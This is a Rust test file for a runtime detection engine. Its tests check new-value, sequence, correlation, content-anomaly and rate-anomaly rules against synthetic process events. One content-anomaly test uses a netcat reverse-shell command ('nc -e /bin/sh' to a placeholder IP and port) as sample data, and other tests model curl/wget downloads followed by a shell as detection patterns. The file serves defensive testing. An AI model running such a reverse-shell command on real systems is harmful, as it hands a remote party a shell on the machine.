//! Rules for new values and sequences, from text to detections.
#![expect(
    clippy::unwrap_used,
    clippy::panic,
    reason = "helpers of tests fail a test like the tests themselves"
)]

use std::sync::Arc;

use yagura_engine::{Detection, Detector, Place, RuleSet, Scratch};
use yagura_event::{Event, GroupKey, Registry, Severity, Timestamp, Tree, build_event};
use yagura_rules::source::{
    AnomalySource, CaseSource, ContentAnomalySource, CorrelationSource, DetectSource, MeasureSource,
    MethodSource, NewValueSource, QuerySource, SequenceSource, StepSource,
};
use yagura_rules::{Lists, Rule, RuleSource, compile};

const SECOND: i64 = 1_000_000_000;

fn exec(second: i64, name: &str, container: &str, args: &[&str]) -> Event {
    let args = Tree::List(args.iter().map(|arg| Tree::from(*arg)).collect());
    let tree = Tree::map([
        ("kind".into(), Tree::from("process.exec")),
        ("process.name".into(), Tree::from(name)),
        ("process.args".into(), args),
        ("container.id".into(), Tree::from(container)),
        ("container.image.name".into(), Tree::from("shop")),
    ]);
    build_event(&tree, Timestamp(second * SECOND)).unwrap()
}

#[track_caller]
fn rule(condition: &str, group_by: &[&str], method: MethodSource) -> Arc<Rule> {
    let mut source = RuleSource::new("r", condition);
    source.detect = Some(DetectSource {
        group_by: group_by.iter().map(|field| (*field).to_owned()).collect(),
        method,
    });
    let compiled = compile(&source, Registry::workload(), &Lists::default());
    compiled
        .rule
        .unwrap_or_else(|| panic!("{:#?}", compiled.diagnostics))
}

fn new_value(fields: &[&str]) -> MethodSource {
    MethodSource::NewValue(NewValueSource {
        fields: fields.iter().map(|field| (*field).to_owned()).collect(),
        learn_for: 60 * SECOND,
        learn_matches: 0,
        forget_after: 3_600 * SECOND,
    })
}

/// Somebody downloads twice, then starts a shell; a package manager ends it.
fn download() -> MethodSource {
    let step = |condition: &str, count| StepSource {
        condition: condition.to_owned(),
        count,
    };
    MethodSource::Sequence(SequenceSource {
        within: 60 * SECOND,
        steps: vec![
            step("process.name in [\"curl\", \"wget\"]", 2),
            step("process.name == \"sh\"", 1),
        ],
        until: Some("process.name == \"apt\"".to_owned()),
    })
}

/// The detections of events, in order.
fn detections(detector: &mut Detector, rule: &Arc<Rule>, events: &[Event]) -> Vec<Detection> {
    let set = RuleSet::new([Arc::clone(rule)]);
    let mut scratch = Scratch::default();
    let mut found = Vec::new();
    for event in events {
        for one in set.evaluate(event, &mut scratch) {
            found.extend(detector.take(rule, one, event.time));
        }
    }
    found
}

fn told(detections: &[Detection]) -> Vec<(i64, i64, u64)> {
    let told = |one: &Detection| (one.first.0 / SECOND, one.last.0 / SECOND, one.count);
    detections.iter().map(told).collect()
}

#[test]
fn what_was_not_learned_is_told_once() {
    let rule = rule(
        "event.kind == \"process.exec\"",
        &["container.image.name"],
        new_value(&["process.name"]),
    );
    let mut detector = Detector::new(Place::Alone);
    let events = [
        exec(0, "nginx", "a", &[]),
        exec(59, "sh", "b", &[]),
        exec(60, "nginx", "a", &[]),
        exec(61, "nc", "a", &[]),
        exec(62, "nc", "b", &[]),
        exec(63, "sh", "b", &[]),
    ];
    assert_eq!(told(&detections(&mut detector, &rule, &events)), [(61, 61, 1)]);
}

#[test]
fn each_element_of_a_list_is_a_value_and_what_lacks_one_is_left_out() {
    let rule = rule(
        "event.kind == \"process.exec\"",
        &[],
        new_value(&["process.name", "process.args"]),
    );
    let mut detector = Detector::new(Place::Alone);
    let events = [
        exec(0, "ls", "a", &["-l", "-a"]),
        exec(100, "ls", "a", &["-a"]),
        exec(101, "ls", "a", &[]),
        exec(102, "ls", "a", &["-a", "-R"]),
        exec(103, "ls", "a", &["-R", "-l"]),
        exec(104, "rm", "a", &["-R"]),
    ];
    assert_eq!(
        told(&detections(&mut detector, &rule, &events)),
        [(102, 102, 1), (104, 104, 1)]
    );
    let new = self::rule("event.kind == \"process.exec\"", &[], new_value(&["process.tty"]));
    assert!(detections(&mut detector, &new, &[exec(999, "ls", "a", &[])]).is_empty());
    assert_eq!(detector.take_tally().left_out, 1);
}

#[test]
fn steps_in_order_and_of_one_group_are_a_sequence() {
    let rule = rule("event.kind == \"process.exec\"", &["container.id"], download());
    let mut detector = Detector::new(Place::Alone);
    let events = [
        exec(0, "sh", "a", &[]),
        exec(1, "curl", "a", &[]),
        exec(2, "curl", "b", &[]),
        exec(3, "sh", "a", &[]),
        exec(4, "ls", "a", &[]),
        exec(5, "wget", "a", &[]),
        exec(6, "sh", "a", &[]),
        exec(7, "sh", "a", &[]),
        // What ends it.
        exec(8, "apt", "a", &[]),
        exec(9, "curl", "a", &[]),
        exec(10, "sh", "a", &[]),
        exec(11, "curl", "a", &[]),
        exec(70, "sh", "a", &[]),
    ];
    let set = RuleSet::new([Arc::clone(&rule)]);
    let ls = set.evaluate(&events[4], &mut Scratch::default());
    assert!(ls.is_empty(), "what is no step and ends none is no match");
    assert_eq!(
        told(&detections(&mut detector, &rule, &events)),
        [(1, 6, 4), (7, 7, 1)],
        "a shell between them counts with them; the last is a minute after the first"
    );
}

#[test]
fn a_node_passes_on_what_others_need_to_know() {
    let sequence = rule("event.kind == \"process.exec\"", &["process.name"], download());
    let mut node = Detector::new(Place::Node);
    let passed = detections(&mut node, &sequence, &[exec(0, "curl", "a", &[])]);
    let expected = GroupKey(vec![
        ("process.name".into(), "curl".into()),
        ("detect.steps".into(), Tree::Int(1)),
    ]);
    assert_eq!(passed[0].found.group, expected);
    let carried: Vec<&str> = sequence.detect.as_ref().unwrap().carried().collect();
    assert_eq!(carried, ["detect.steps"]);

    let new = rule(
        "event.kind == \"process.exec\"",
        &[],
        new_value(&["process.args"]),
    );
    let passed = detections(&mut node, &new, &[exec(0, "curl", "a", &["-s"])]);
    let list = Tree::List(vec![Tree::from("-s")].into_iter().collect());
    assert_eq!(
        passed[0].found.group,
        GroupKey(vec![("process.args".into(), list)])
    );
}

#[test]
fn what_was_seen_outlives_a_restart() {
    for (method, events) in [
        (
            new_value(&["process.name"]),
            [
                exec(0, "nginx", "a", &[]),
                exec(1, "sh", "a", &[]),
                exec(99, "nc", "a", &[]),
            ],
        ),
        (
            download(),
            [
                exec(0, "curl", "a", &[]),
                exec(1, "curl", "a", &[]),
                exec(2, "sh", "a", &[]),
            ],
        ),
    ] {
        let rule = rule("event.kind == \"process.exec\"", &["container.id"], method);
        let mut kept = Vec::new();
        let mut found = Vec::new();
        for event in &events {
            let mut detector = Detector::kept(Place::Node);
            detector.restore([&*rule], kept.clone());
            found.extend(detections(&mut detector, &rule, std::slice::from_ref(event)));
            kept = detector.take_changed();
        }
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].last, events[2].time);
    }
}

#[test]
fn the_first_case_that_holds_says_how_urgent_it_is() {
    let query = |name: &str, condition: &str, measure| QuerySource {
        name: name.to_owned(),
        condition: condition.to_owned(),
        measure,
    };
    let case = |when: &str, severity, title: &str| CaseSource {
        when: when.to_owned(),
        severity,
        title: title.to_owned(),
    };
    let method = MethodSource::Correlation(CorrelationSource {
        within: 60 * SECOND,
        queries: vec![
            query("shells", "process.name == \"sh\"", MeasureSource::Count),
            query(
                "tools",
                "process.name != \"sh\"",
                MeasureSource::Distinct("process.name".to_owned()),
            ),
            query(
                "terminals",
                "true",
                MeasureSource::Distinct("process.tty".to_owned()),
            ),
        ],
        cases: vec![
            case(
                "shells > 0 && tools > 1",
                Some(Severity::Critical),
                "Tools and a shell in {{container.id}}",
            ),
            case("shells > 1", None, ""),
        ],
    });
    let rule = rule("event.kind == \"process.exec\"", &["container.id"], method);
    let mut detector = Detector::new(Place::Alone);
    let events = [
        exec(0, "nc", "a", &[]),
        exec(1, "nc", "a", &[]),
        exec(2, "sh", "a", &[]),
        exec(3, "sh", "a", &[]),
        exec(4, "nmap", "a", &[]),
        exec(5, "nmap", "b", &[]),
    ];
    let found = detections(&mut detector, &rule, &events);
    assert_eq!(told(&found), [(0, 3, 4), (4, 4, 1)]);
    let says: Vec<_> = found
        .iter()
        .map(|one| (one.case, rule.severity_of(one.case), one.found.title.as_str()))
        .collect();
    assert_eq!(
        says,
        [
            (Some(1), Severity::Medium, "r"),
            (Some(0), Severity::Critical, "Tools and a shell in a")
        ]
    );
}

#[test]
fn a_text_that_is_like_none_before_is_told() {
    let method = MethodSource::ContentAnomaly(ContentAnomalySource {
        field: "process.command_line".to_owned(),
        similarity: 60,
        similar: 1,
        learn_for: 60 * SECOND,
        learn_matches: 1,
        forget_after: 3_600 * SECOND,
    });
    let rule = rule(
        "event.kind == \"process.exec\"",
        &["container.image.name"],
        method,
    );
    let mut detector = Detector::new(Place::Alone);
    let events = [
        exec(0, "backup", "a", &["--to", "/srv/backup/2026-11-01.tar"]),
        exec(70, "backup", "b", &["--to", "/srv/backup/2026-11-02.tar"]),
        exec(71, "nc", "b", &["-e", "/bin/sh", "203.0.113.5", "4444"]),
        exec(72, "nc", "b", &["-e", "/bin/sh", "203.0.113.9", "4445"]),
    ];
    assert_eq!(told(&detections(&mut detector, &rule, &events)), [(71, 71, 1)]);
    let mut node = Detector::new(Place::Node);
    let passed = detections(&mut node, &rule, &events[2..3]);
    assert_eq!(
        passed[0].found.group.0[1],
        (
            "process.command_line".to_owned(),
            "nc -e /bin/sh 203.0.113.5 4444".into()
        )
    );
}

#[test]
fn more_than_usual_is_told_from_the_match_on_that_makes_it_so() {
    const HOUR: i64 = 3_600;
    let method = MethodSource::Anomaly(AnomalySource {
        bucket: HOUR * SECOND,
        history: 14 * 24 * HOUR * SECOND,
        learn_for: 24 * HOUR * SECOND,
        tolerance: 2,
        min_count: 5,
    });
    let rule = rule("event.kind == \"process.exec\"", &["container.id"], method);
    let mut detector = Detector::kept(Place::Node);
    let mut found = Vec::new();
    for hour in 0..40 {
        // Two an hour; in the last eight.
        let often = if hour == 39 { 8 } else { 2 };
        for place in 0..often {
            let event = exec(hour * HOUR + place, "ls", "a", &[]);
            found.extend(detections(&mut detector, &rule, &[event]));
        }
        let kept = detector.take_changed();
        detector = Detector::kept(Place::Node);
        detector.restore([&*rule], kept);
    }
    let start = 39 * HOUR;
    assert_eq!(
        told(&found),
        [
            (start, start + 4, 5),
            (start + 5, start + 5, 1),
            (start + 6, start + 6, 1),
            (start + 7, start + 7, 1)
        ]
    );
}
